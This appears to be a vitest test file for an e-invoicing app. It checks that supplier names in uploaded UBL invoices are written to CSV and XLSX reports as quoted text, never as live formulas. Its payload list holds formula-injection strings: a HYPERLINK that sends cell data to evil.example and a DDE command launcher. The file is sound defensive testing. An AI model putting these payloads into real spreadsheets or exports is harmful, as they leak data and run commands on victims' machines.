import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  bodyOf,
  createSignedInUser,
  createTestContext,
  eventually,
  TEST_DB,
  type TestContext,
} from '../../../test/harness';
import { spreadsheetText } from '../../lib/spreadsheet';
import { insertClient } from '../clients/repo';
import { grantCredits } from '../credits/ledger';

/** The attack table's payloads: each would run as a formula (or DDE) if a spreadsheet read it as one. */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?d="&E2,"Factura")',
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '+1+1',
  '-2+3',
];
const CLIENT_TAX_ID = 'B12345674';

const xml = (text: string) => text.replace(/&/g, '&amp;').replace(/</g, '&lt;');

/** A UBL invoice (or credit note) from a supplier named `supplier` to the client. */
function ubl(index: number, supplier: string, credit = false) {
  const root = credit ? 'CreditNote' : 'Invoice';
  const line = credit ? 'CreditNoteLine' : 'InvoiceLine';
  return `<?xml version="1.0" encoding="UTF-8"?>
<${root} xmlns="urn:oasis:names:specification:ubl:schema:xsd:${root}-2" xmlns:cac="urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2" xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">
  <cbc:ID>${xml(credit ? `+R-${index}` : `X-${index}`)}</cbc:ID><cbc:IssueDate>2026-02-0${index + 1}</cbc:IssueDate>
  <cbc:${root}TypeCode>${credit ? '381' : '380'}</cbc:${root}TypeCode><cbc:DocumentCurrencyCode>EUR</cbc:DocumentCurrencyCode>
  <cac:AccountingSupplierParty><cac:Party><cac:PartyTaxScheme><cbc:CompanyID>ESA58818501</cbc:CompanyID><cac:TaxScheme><cbc:ID>VAT</cbc:ID></cac:TaxScheme></cac:PartyTaxScheme>
    <cac:PartyLegalEntity><cbc:RegistrationName>${xml(supplier)}</cbc:RegistrationName></cac:PartyLegalEntity></cac:Party></cac:AccountingSupplierParty>
  <cac:AccountingCustomerParty><cac:Party><cac:PartyTaxScheme><cbc:CompanyID>ES${CLIENT_TAX_ID}</cbc:CompanyID><cac:TaxScheme><cbc:ID>VAT</cbc:ID></cac:TaxScheme></cac:PartyTaxScheme>
    <cac:PartyLegalEntity><cbc:RegistrationName>Talleres Gómez S.L.</cbc:RegistrationName></cac:PartyLegalEntity></cac:Party></cac:AccountingCustomerParty>
  <cac:TaxTotal><cbc:TaxAmount currencyID="EUR">21.00</cbc:TaxAmount>
    <cac:TaxSubtotal><cbc:TaxableAmount currencyID="EUR">100.00</cbc:TaxableAmount><cbc:TaxAmount currencyID="EUR">21.00</cbc:TaxAmount><cac:TaxCategory><cbc:ID>S</cbc:ID><cbc:Percent>21</cbc:Percent></cac:TaxCategory></cac:TaxSubtotal>
  </cac:TaxTotal>
  <cac:LegalMonetaryTotal><cbc:LineExtensionAmount currencyID="EUR">100.00</cbc:LineExtensionAmount><cbc:TaxExclusiveAmount currencyID="EUR">100.00</cbc:TaxExclusiveAmount><cbc:TaxInclusiveAmount currencyID="EUR">121.00</cbc:TaxInclusiveAmount><cbc:PayableAmount currencyID="EUR">121.00</cbc:PayableAmount></cac:LegalMonetaryTotal>
  <cac:${line}><cbc:ID>1</cbc:ID><cbc:${credit ? 'CreditedQuantity' : 'InvoicedQuantity'} unitCode="C62">1</cbc:${credit ? 'CreditedQuantity' : 'InvoicedQuantity'}><cbc:LineExtensionAmount currencyID="EUR">100.00</cbc:LineExtensionAmount>
    <cac:Item><cbc:Name>${xml(supplier)}</cbc:Name><cac:ClassifiedTaxCategory><cbc:ID>S</cbc:ID><cbc:Percent>21</cbc:Percent></cac:ClassifiedTaxCategory></cac:Item><cac:Price><cbc:PriceAmount currencyID="EUR">100.00</cbc:PriceAmount></cac:Price></cac:${line}>
</${root}>`;
}

/** Files that never run (issue 14): every report cell from invoice data is text, never a formula. */
describe(`formula injection through an uploaded e-invoice (${TEST_DB})`, () => {
  let ctx: TestContext;
  beforeAll(async () => {
    ctx = await createTestContext({ work: true });
  });
  afterAll(() => ctx.close());

  async function uploadAttack(locale: 'es' | 'en') {
    const owner = await createSignedInUser(ctx, { locale });
    await grantCredits(ctx.db, owner.user.id, 10, 'grant', `test:${owner.user.id}`);
    const client = (await insertClient(ctx.db, {
      ownerUserId: owner.user.id,
      name: 'Talleres Gómez',
      taxId: CLIENT_TAX_ID,
    }))!;
    const form = new FormData();
    PAYLOADS.forEach((payload, index) => {
      // The last one is a credit note: its amounts come out negative, and must stay numbers.
      const bytes = ubl(index, payload, index === PAYLOADS.length - 1);
      form.append('files[]', new Blob([bytes], { type: 'application/xml' }), `attack-${index}.xml`);
    });
    const res = await ctx.request(`/api/v1/clients/${client.id}/uploads`, {
      method: 'POST',
      headers: owner.headers,
      body: form,
    });
    expect(res.status).toBe(202);
    const { batchId } = await bodyOf(res);
    const batch = await eventually(async () => {
      const body = await bodyOf(await ctx.request(`/api/v1/uploads/${batchId}`, { headers: owner.headers }));
      return body.pendingCount === 0 ? body : undefined;
    }, 60_000);
    expect(batch.documents.map((d: { status: string }) => d.status)).toEqual(
      PAYLOADS.map(() => 'needs_review'),
    );
    const download = async (format: 'csv' | 'xlsx') => {
      const link = await bodyOf(
        await ctx.json(
          `/api/v1/clients/${client.id}/reports`,
          { from: '2026-01-01', to: '2026-03-31', format },
          { headers: owner.headers },
        ),
      );
      return ctx.request(link.downloadUrl, { headers: owner.headers });
    };
    return { download };
  }

  it('writes every CSV cell from the invoices as text: the payloads get a quote, amounts stay numbers', async () => {
    const { download } = await uploadAttack('es');
    const text = await (await download('csv')).text();
    const [header, ...rows] = parse(text, {
      delimiter: ';',
      bom: true,
      relax_column_count: false,
    }) as string[][];
    expect(header?.slice(0, 5)).toEqual(['Tipo', 'Fecha', 'Número', 'Cliente / Proveedor', 'NIF']);
    expect(rows).toHaveLength(PAYLOADS.length);
    for (const row of rows) {
      // Text cells from the invoice: none may start a formula.
      for (const cell of row.slice(0, 5)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(rows.map((r) => r[3])).toEqual(PAYLOADS.map((p) => `'${p}`));
    expect(rows.map((r) => r[2])).toEqual(['X-0', 'X-1', 'X-2', 'X-3', "'+R-4"]);
    // The credit note: its money is negative and written as a plain number, no quote in front.
    const credit = rows[4] as string[];
    expect(credit.slice(5)).toEqual([
      '-100,00',
      '-21,00',
      '-100,00',
      '-21,00',
      '0,00',
      '0,00',
      '-121,00',
      'No',
    ]);
    expect(rows[0]?.slice(5)).toEqual(['100,00', '21,00', '100,00', '21,00', '0,00', '0,00', '121,00', 'No']);
  });

  it('quotes text starting with =, +, -, @, tab or carriage return, and nothing else', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r'])
      expect(spreadsheetText(`${start}1`)).toBe(`'${start}1`);
    expect(spreadsheetText('Bar Sol')).toBe('Bar Sol');
    expect(spreadsheetText("'=1")).toBe("'=1");
    expect(spreadsheetText('')).toBe('');
  });

  it('writes them into the XLSX as string cells, never formulas, and amounts as numbers', async () => {
    const { download } = await uploadAttack('en');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await (await download('xlsx')).arrayBuffer());
    const sheet = workbook.getWorksheet('Received');
    const suppliers: unknown[] = [];
    workbook.eachSheet((each) =>
      each.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          expect(cell.formula).toBeUndefined();
        }),
      ),
    );
    sheet?.eachRow((row, number) => {
      if (number === 1) return;
      const supplier = row.getCell(3);
      expect(supplier.type).toBe(ExcelJS.ValueType.String);
      suppliers.push(supplier.value);
    });
    expect(suppliers).toEqual(PAYLOADS);
    const credit = sheet?.getRow(PAYLOADS.length + 1);
    expect(credit?.getCell(2).value).toBe('+R-4');
    expect(credit?.getCell(6).value).toBe(-21);
    expect(credit?.getCell(6).type).toBe(ExcelJS.ValueType.Number);
  });
});
